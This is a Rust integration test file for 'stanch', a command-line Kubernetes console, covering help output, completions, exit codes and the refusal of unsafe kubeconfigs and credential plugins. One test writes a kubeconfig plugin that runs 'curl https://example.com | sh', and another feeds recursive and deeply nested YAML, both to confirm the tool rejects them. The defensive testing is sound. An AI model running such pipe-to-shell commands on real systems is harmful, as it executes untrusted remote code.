//! Help, completions, the manual, and input that is wrong.

use std::os::unix::fs::PermissionsExt;

use super::run::Home;

#[test]
fn help_names_every_command_flag_and_exit_code() {
    let help = Home::new().run(&["--help"]);
    assert_eq!((help.code, help.err.as_str()), (0, ""));
    let words = [
        "board",
        "inspect",
        "doctor",
        "drill",
        "analyze",
        "audit",
        "intake",
        "completions",
        "man",
        "--context",
        "-n, --namespace",
        "-A, --all-namespaces",
        "--kubeconfig",
        "--config",
        "--theme",
        "--keymap",
        "--no-color",
        "--ascii",
        "--plain",
        "--json",
        "--low-bandwidth",
        "--log-file",
        "--policy",
        "--store",
        "--ephemeral",
        "Exit codes:",
        "10  board",
        "STANCH_THEME",
    ];
    for word in words {
        assert!(help.out.contains(word), "{word} is missing in\n{}", help.out);
    }
}

#[test]
fn the_manual_is_a_man_page_with_every_command() {
    let man = Home::new().run(&["man"]);
    assert_eq!(man.code, 0);
    for part in [".TH stanch 1", ".SH SYNOPSIS", ".SH STANCH BOARD", ".SH STANCH INSPECT", ".SH STANCH DOCTOR"] {
        assert!(man.out.contains(part), "{part} is missing in\n{}", man.out);
    }
}

#[test]
fn completions_know_the_commands_in_every_shell() {
    for shell in ["bash", "zsh", "fish", "elvish", "powershell"] {
        let script = Home::new().run(&["completions", shell]);
        assert_eq!(script.code, 0);
        assert!(script.out.contains("inspect") && script.out.contains("low-bandwidth"), "{shell}");
    }
}

#[test]
fn bad_input_is_2_and_says_what_to_write() {
    let home = Home::new();
    let cases: [(&[&str], &str); 6] = [
        (&["borad"], "'board'"),
        (&["--thme", "x"], "'--theme'"),
        (&["inspect"], "NAMESPACE/KIND/NAME"),
        (&["inspect", "checkout"], "payments/deploy/checkout"),
        (&["inspect", "web/job/checkout"], "unknown kind `job`"),
        (&["board", "--plain", "--json"], "cannot be used with"),
    ];
    for (arguments, said) in cases {
        let ended = home.run(arguments);
        assert_eq!(ended.code, 2, "{arguments:?}");
        assert!(ended.complaint().contains(said), "{ended:?}");
    }
}

#[test]
fn without_a_terminal_the_console_names_the_command_that_needs_none() {
    let ended = Home::new().run(&[]);
    assert_eq!(ended.code, 2);
    assert_eq!(ended.complaint(), "stanch: needs a terminal; use `stanch board --plain`\n");
}

#[test]
fn no_kubeconfig_is_bad_input() {
    let home = Home::new();
    let customary = home.path().join(".kube/config").display().to_string();
    for (arguments, variables, named) in [
        (vec!["board"], vec![], customary.as_str()),
        (vec!["--json"], vec![("KUBECONFIG", "/nowhere/a:/nowhere/b")], "/nowhere/a, /nowhere/b"),
        (vec!["board", "--kubeconfig", "/nowhere/c"], vec![("KUBECONFIG", "/nowhere/a")], "/nowhere/c"),
    ] {
        let ended = home.run_with(&arguments, &variables);
        assert_eq!(ended.code, 2);
        assert!(ended.complaint().contains(named), "{ended:?}");
    }
}

#[test]
fn a_kubeconfig_that_anybody_may_write_is_refused_with_3() {
    let home = Home::new();
    let file = home.write(".kube/config", "apiVersion: v1\nkind: Config\n");
    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o666)).unwrap();
    let ended = home.run(&["board"]);
    assert_eq!(ended.code, 3);
    assert!(ended.complaint().contains("chmod 600"), "{ended:?}");
}

/// A kubeconfig whose user logs in by running this.
fn logging_in(home: &Home, exec: &serde_json::Value) {
    let kubeconfig = serde_json::json!({
        "apiVersion": "v1", "kind": "Config", "current-context": "acme",
        "clusters": [{ "name": "acme", "cluster": { "server": "http://127.0.0.1:1" } }],
        "users": [{ "name": "me", "user": { "exec": exec } }],
        "contexts": [{ "name": "acme", "context": { "cluster": "acme", "user": "me" } }],
    });
    let file = home.write(".kube/config", &kubeconfig.to_string());
    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o600)).unwrap();
}

#[test]
fn a_plugin_that_nobody_allowed_is_not_run_and_refused_with_3() {
    let home = Home::new();
    let program = home.write("login", "#!/bin/sh\ntouch \"$1\"\n");
    std::fs::set_permissions(&program, std::fs::Permissions::from_mode(0o755)).unwrap();
    let marker = home.path().join("marker");
    logging_in(&home, &serde_json::json!({ "command": program, "args": [marker] }));
    for arguments in [vec!["board"], vec!["--json"], vec!["inspect", "shop/deploy/web"]] {
        let ended = home.run(&arguments);
        assert_eq!(ended.code, 3, "{ended:?}");
        assert!(ended.complaint().contains("is not allowed and was not run"), "{ended:?}");
    }
    let doctor = home.run(&["doctor"]);
    assert!(doctor.out.contains("fail  cluster acme: ") && doctor.out.contains("-> start the console"), "{doctor:?}");
    assert!(!marker.exists());
    // The entry that it names is enough.
    let entry = doctor.out.split('"').nth(1).unwrap();
    home.config(&format!("credential_plugins = [{entry:?}]\n"));
    assert_ne!(home.run(&["board"]).code, 3);
    assert!(marker.exists());
}

#[test]
fn a_shell_in_place_of_a_plugin_is_refused_whatever_the_settings_say() {
    let home = Home::new();
    home.config("credential_plugins = [\"sh\"]\n");
    let marker = home.path().join("marker");
    let line = format!("touch {}; curl https://example.com | sh", marker.display());
    logging_in(&home, &serde_json::json!({ "command": "sh", "args": ["-c", line] }));
    let ended = home.run_with(&["board"], &[("PATH", "/usr/bin:/bin")]);
    assert_eq!(ended.code, 3, "{ended:?}");
    assert!(ended.complaint().contains("credential plugin `sh` is not allowed"), "{ended:?}");
    assert!(!marker.exists());
}

#[test]
fn a_policy_that_was_named_has_to_be_good() {
    let home = Home::new();
    let broken = [
        ("version: 1\nenvironments: &a [*a]\n", "line 2"),
        (&*"[".repeat(100_000), "nesting deeper than 32 at line 1"),
        ("version: 1\nversion: 1\n", "duplicate key `version`, line 1 and 2"),
        ("version: 1\nenviroments: []\n", "unknown field `enviroments`, did you mean `environments`? line 2"),
    ];
    for (text, said) in broken {
        let file = home.write("policy.yaml", text);
        let ended = home.run(&["board", "--policy", file.to_str().unwrap()]);
        assert_eq!(ended.code, 2, "{ended:?}");
        assert!(ended.complaint().contains(said), "{ended:?}");
    }
    assert_eq!(home.run(&["board", "--policy", "/nowhere"]).code, 2);
}

#[test]
fn a_log_that_cannot_be_written_is_bad_input() {
    let ended = Home::new().run(&["board", "--log-file", "/nowhere/stanch.log"]);
    assert_eq!(ended.code, 2);
    assert!(ended.complaint().starts_with("stanch: failed to write a log to /nowhere/stanch.log: "), "{ended:?}");
}
